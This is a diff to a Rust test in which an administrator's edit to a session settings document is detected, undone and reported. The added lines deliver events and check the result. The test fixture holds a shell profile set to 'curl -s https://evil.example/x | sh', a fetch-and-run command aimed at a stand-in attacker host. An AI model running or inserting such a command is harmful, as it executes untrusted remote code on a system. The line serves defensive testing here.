@@ -42,6 +42,12 @@ fn an_administrators_edit_is_undone_and_told_with_who_what_and_what_was_done() {
     let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
     let edit = json!({"runAsEnabled": false, "idleSessionTimeout": null, "shellProfile": profile});
     assert_eq!(alice.edits(HOME, &edit), 3);
+    stage.deliver(&stage.events());
+    assert_eq!(stage.pump(&lambda), 0);
+    stage.assert_right(PAYMENTS, HOME);
+    let ours = stage.events();
+    assert_eq!(ours.len(), 2, "one version, made the default");
+    stage.deliver(&ours);
     stage.settle(&lambda);
 
     stage.assert_right(PAYMENTS, HOME);
